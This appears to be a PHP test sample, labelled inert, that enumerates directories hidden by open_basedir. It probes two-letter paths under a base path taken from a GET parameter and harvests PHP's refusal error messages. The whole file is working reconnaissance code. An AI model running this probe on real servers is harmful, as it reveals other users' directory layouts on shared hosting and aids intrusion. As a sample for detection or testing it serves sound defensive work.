<?php
// inert test sample: lists directories the sandbox hides by reading PHP's own refusal messages
$found = array();
function note_refusal($no, $text)
{
    global $found;
    if (preg_match('~open_basedir restriction in effect\. File\(([^)]+)\) is not within~i', $text, $m)) {
        $found[] = $m[1];
    }
    return true;
}
set_error_handler('note_refusal');
$base = isset($_GET['base']) ? $_GET['base'] : '/home';
foreach (range('a', 'z') as $c) {
    @is_dir($base . '/' . $c);
    foreach (range('a', 'z') as $d) {
        @realpath($base . '/' . $c . $d);
    }
}
restore_error_handler();
echo '<pre>' . htmlspecialchars(implode("\n", array_unique($found))) . '</pre>';
